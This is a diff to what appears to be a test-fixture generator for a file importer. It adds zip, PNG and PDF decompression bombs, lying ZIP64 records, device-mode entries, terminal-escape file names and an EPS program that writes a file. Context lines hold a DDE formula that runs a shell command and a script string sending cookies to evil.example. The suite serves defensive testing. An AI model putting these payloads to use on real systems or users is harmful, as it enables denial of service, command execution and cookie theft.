@@ -12,6 +12,7 @@ import stat
 import struct
 import tempfile
 import zipfile
+import zlib
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -42,7 +43,7 @@ class Kind:
 
 TEXT = ("csv", "yaml", "json", "xml", "tags")
 PACKED = ("xlsx", "zip")
-ANY = (*TEXT, *PACKED)
+ANY = (*TEXT, *PACKED, "pdf", "png")
 
 
 def _put(piece: bytes) -> Make:
@@ -133,7 +134,7 @@ def _json_value(value: str) -> Make:
 
 def _json_twice(good: bytes) -> bytes:
     text = good.decode()
-    found = re.search(r'"\w+"\s*:\s*("(?:[^"\\]|\\.)*"|-?\d[\d.]*|true|false|null)', text)
+    found = re.search(r'"[^"]+"\s*:\s*("(?:[^"\\]|\\.)*"|-?\d[\d.]*|true|false|null)', text)
     assert found
     return f"{text[: found.start()]}{found[0]}, {text[found.start() :]}".encode()
 
@@ -188,7 +189,7 @@ def _with_parts(*more: tuple[str, bytes]) -> Make:
     return make
 
 
-MAIN_PART = re.compile(r"xl/worksheets/sheet\d+\.xml|.*\.qde|services\.csv")
+MAIN_PART = re.compile(r"xl/worksheets/sheet\d+\.xml|.*\.qde|services\.csv|.*/tables/[^/]*\.csv|styles\.css")
 
 
 def _in_main(change: Make) -> Make:
@@ -262,23 +263,75 @@ def _overlapping(good: bytes) -> bytes:
     return bytes(data)
 
 
-def _bomb(good: bytes) -> bytes:
+def _bomb(good: bytes, packing: int = zipfile.ZIP_DEFLATED, megabytes: int = 600) -> bytes:
     """The table's part followed by 600 MB of blanks."""
     made = io.BytesIO()
-    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
+    with zipfile.ZipFile(made, "w", packing, compresslevel=1) as archive:
         for entry, data in _parts(good):
             with archive.open(entry.filename, "w", force_zip64=True) as part:
                 is_table = MAIN_PART.fullmatch(entry.filename) is not None
                 head, end, tail = data.rpartition(b"</") if is_table and b"</" in data else (data, b"", b"")
                 part.write(head)
-                for _ in range(600 if is_table else 0):
+                for _ in range(megabytes if is_table else 0):
                     part.write(b" " * (1 << 20))
                 part.write(end + tail)
     return made.getvalue()
 
 
+def _at_once(packing: int) -> Make:
+    """A bomb in a way of packing that unpacks a block whole, in an archive that says it holds a byte a part."""
+    return lambda good: _lying_size(_bomb(good, packing, 100))
+
+
+def _in_directory(at: int, value: bytes) -> Make:
+    """Other bytes at a place of each entry of the archive's list."""
+
+    def make(good: bytes) -> bytes:
+        data, found = bytearray(good), good.find(b"PK\x01\x02")
+        while found >= 0:
+            data[found + at : found + at + len(value)] = value
+            found = data.find(b"PK\x01\x02", found + 4)
+        return bytes(data)
+
+    return make
+
+
+def _endless_list(good: bytes) -> bytes:
+    """The record of 64 bits before the end, which counts, says of gigabytes of entries; the end itself of one."""
+    record = struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, 1 << 31, 0)
+    place = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(good), 1)
+    return (
+        good[: good.rfind(b"PK\x05\x06")] + record + place + b"PK\x05\x06" + struct.pack("<4HLLH", 0, 0, 1, 1, 46, 0, 0)
+    )
+
+
+def _beyond(good: bytes) -> bytes:
+    """The last part begins at the last of 2^64 bytes."""
+    data, at = bytearray(good), good.rfind(b"PK\x01\x02")
+    name, extra = struct.unpack("<HH", data[at + 28 : at + 32])
+    more = struct.pack("<HHQ", 1, 8, (1 << 64) - 1)
+    data[at + 30 : at + 32] = struct.pack("<H", extra + len(more))
+    data[at + 42 : at + 46] = b"\xff" * 4
+    data[at + 46 + name : at + 46 + name] = more
+    end = data.rfind(b"PK\x05\x06")
+    data[end + 12 : end + 16] = struct.pack("<L", struct.unpack("<L", data[end + 12 : end + 16])[0] + len(more))
+    return bytes(data)
+
+
+# pictures and prints
+
+
+def _png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
+    head = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
+    parts = ((b"IHDR", head), *chunks, (b"IDAT", zlib.compress(b"\0" * 1_000)), (b"IEND", b""))
+    return b"\x89PNG\r\n\x1a\n" + b"".join(
+        struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data)) for name, data in parts
+    )
+
+
 INNER = _packed(iter([(zipfile.ZipInfo("a.csv"), b"0" * 50_000_000)]))
 RAN = f"{TRAP}.ran"  # what a file that is run would make
+PROGRAM = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 40 20\n%%EndComments\n({RAN}) (w) file closefile\n%%EOF\n"
 FORMULA = f"=cmd|'/C touch {RAN}'!A0"
 SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
 SHORTCODE = f"{{{{< include {TRAP} >}}}} {{{{< env HOME >}}}}"
@@ -467,6 +520,44 @@ KINDS: tuple[Kind, ...] = (
     Kind("65,535 entries", PACKED, ONLY_REFUSED, _many_entries),
     Kind("a size that lies", PACKED, ONLY_REFUSED, _lying_size),
     Kind("entries that overlap", PACKED, SAME_OR_REFUSED, _overlapping),
+    Kind("a bomb packed as bzip2", PACKED, ONLY_REFUSED, _at_once(zipfile.ZIP_BZIP2)),
+    Kind("a bomb packed as lzma", PACKED, ONLY_REFUSED, _at_once(zipfile.ZIP_LZMA)),
+    Kind("a list of entries of gigabytes", PACKED, ONLY_REFUSED, _endless_list),
+    Kind("a part beyond all files", PACKED, SAME_OR_REFUSED, _beyond),
+    Kind("wrong checksums", PACKED, ONLY_REFUSED, _in_directory(16, b"\1\2\3\4")),
+    Kind("every part a device", PACKED, SAME_OR_REFUSED, _in_directory(38, struct.pack("<L", 0o020666 << 16))),
+    Kind("parts that are alike but for capitals", PACKED, SAME_OR_REFUSED, _with_parts(("X/y", b"1"), ("x/Y", b"2"))),
+    Kind(
+        "parts that are alike but for an accent", PACKED, SAME_OR_REFUSED, _with_parts(("é", b"1"), ("e\u0301", b"2"))
+    ),
+    Kind("a part of a name that steers a terminal", PACKED, SAME_OR_REFUSED, _with_parts(("a\x1b[2J\u202e.csv", b"x"))),
+    # pictures and prints
+    Kind("a picture of a billion pixels", ("png",), EITHER, lambda _: _png(40_000, 40_000)),
+    Kind("a picture of which the half is missing", ("png",), EITHER, lambda good: good[: len(good) // 2]),
+    Kind(
+        "words that unpack to 100 MB",
+        ("png",),
+        EITHER,
+        lambda _: _png(40, 20, (b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 100_000_000))),
+    ),
+    Kind("another kind of picture, which calls a program", ("png",), EITHER, lambda _: PROGRAM.encode()),
+    Kind("objects without end", ("pdf",), EITHER, lambda _: b"%PDF-1.7\n" + b"1 0 obj\n" * 2_000_000),
+    Kind(
+        "brackets without end",
+        ("pdf",),
+        EITHER,
+        lambda good: good + b"2 0 obj\n" + b"BT (\\" * 1_000_000 + b"\nendobj\n",
+    ),
+    Kind(
+        "a stream that unpacks to 600 MB",
+        ("pdf",),
+        EITHER,
+        lambda _: b"%PDF-1.7\n1 0 obj\nstream\n" + zlib.compress(b" " * 600_000_000, 1) + b"\nendstream\nendobj\n",
+        heavy=True,
+    ),
+    # pages
+    Kind("a megabyte of open brackets", ("xml",), EITHER, lambda good: good + b"<" * 1_000_000),
+    Kind("headings that never close", ("xml",), EITHER, lambda good: good + b"<h1>" * 300_000),
     Kind("a part twice", PACKED, EITHER, lambda good: _packed(iter([*_parts(good), *_parts(good)]))),
     Kind("an external entity (XXE)", ("xlsx", "qdpx"), ONLY_REFUSED, _typed(XXE)),
     Kind("a billion laughs", ("xlsx", "qdpx"), ONLY_REFUSED, _typed(BILLION)),
